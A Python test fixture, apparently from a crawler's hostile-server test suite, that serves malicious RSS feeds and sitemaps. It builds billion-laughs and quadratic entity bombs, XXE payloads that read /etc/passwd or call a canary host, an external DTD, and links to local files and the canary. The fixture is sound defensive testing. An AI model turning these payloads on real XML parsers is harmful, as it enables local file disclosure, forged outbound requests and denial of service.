"""Feeds and sitemaps: bombs, foreign entities, broken ones, floods, and such as lead to the canary."""

import json
from xml.sax.saxutils import escape

from tests.hostile.answers import Asked, Wire, endpoint
from tests.hostile.endpoints.pages import article

_RSS, _XML = "application/rss+xml", "application/xml"
_FILLER = 20 * 1024 * 1024


def item(link: str, *, title: str = "Talks", more: str = "") -> str:
    return f"<item><title>{escape(title)}</title><link>{escape(link)}</link>{more}</item>"


def rss(items: str, *, before: str = "") -> str:
    channel = f"<channel><title>News</title>{items}</channel>"
    return f'<?xml version="1.0"?>{before}<rss version="2.0">{channel}</rss>'


def _items(asked: Asked, count: int) -> list[str]:
    return [item(f"{asked.here}/article/{number}") for number in range(1, count + 1)]


_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)


def _declaring(asked: Asked) -> dict[str, tuple[str, str]]:
    """Return, for each kind, the declaration and the name of the entity that it makes."""
    quadratic = f'<!DOCTYPE x [<!ENTITY q "{"x" * 50_000}">]>'
    return {
        "laughs": (_LAUGHS, "&a9;"),
        "quadratic": (quadratic, "&q;" * 500),
        "xxe": ('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>', "&f;"),
        "xxehttp": (f'<!DOCTYPE x [<!ENTITY h SYSTEM "http://{asked.canary}/xxe">]>', "&h;"),
        "dtd": (f'<!DOCTYPE rss SYSTEM "http://{asked.canary}/evil.dtd">', ""),
    }


@endpoint("/feed/{kind}")
async def feed(asked: Asked, wire: Wire) -> None:
    """A feed: laughs, quadratic, xxe, xxehttp, dtd (entities); truncated, amp, badns, html, empty, json;
    many (10,000 entries), bigitem (20 MB); links (to the canary); control; bidi; dates; ok.
    """
    declaring = _declaring(asked)
    if asked.rest in declaring:
        declaration, entity = declaring[asked.rest]
        titled = f"<item><title>{entity}</title><link>{asked.here}/article/1</link></item>"
        await wire.page(rss(titled, before=declaration), kind=_RSS)
        return
    body, kind = _plain(asked)
    await wire.page(body, kind=kind)


def _plain(asked: Asked) -> tuple[str, str]:
    name, away = asked.rest, f"http://{asked.canary}"
    if name == "html":
        return article(asked.site), "text/html"
    if name == "json":
        return json.dumps({"ok": True, "items": 3}), "application/json"
    if name == "truncated":
        whole = rss("".join(_items(asked, 10)))
        return whole[: whole.rindex("<link>") + 9], _RSS
    bodies = {
        "ok": rss("".join(_items(asked, 2))),
        "amp": rss("".join(_items(asked, 2)).replace("Talks", "Trade & transit &nbsp; talks")),
        "badns": rss("".join(_items(asked, 2)).replace("<link>", "<x:y/><link>")),
        "empty": "",
        "many": rss("".join(_items(asked, 10_000))) if name == "many" else "",
        "bigitem": rss(item(f"{asked.here}/article/1", more=f"<description>{'x' * _FILLER}</description>"))
        if name == "bigitem"
        else "",
        "links": rss(
            "".join([*map(item, (f"{away}/a", "file:///etc/passwd", "//" + asked.canary)), *_items(asked, 1)])
        ),
    }
    return bodies[name], _RSS


@endpoint("/sitemap/{kind}")
async def sitemap(asked: Asked, wire: Wire) -> None:
    """A sitemap: laughs, xxe, evil (its pages lie at the canary), index (sitemaps at the canary)."""
    declaration, entity = _declaring(asked).get(asked.rest, ("", ""))
    away = f"http://{asked.canary}"
    places = {
        "evil": [f"{away}/page", "file:///etc/passwd", f"{asked.here}/article/1"],
        "index": [f"{away}/sitemap.xml", f"{asked.here}/sitemap/inner"],
    }.get(asked.rest, [f"{asked.here}/article/1"])
    outer, inner = ("sitemapindex", "sitemap") if asked.rest == "index" else ("urlset", "url")
    told = "".join(f"<{inner}><loc>{escape(place)}{entity}</loc></{inner}>" for place in places)
    name = f'{outer} xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
    await wire.page(f'<?xml version="1.0"?>{declaration}<{name}>{told}</{outer}>', kind=_XML)
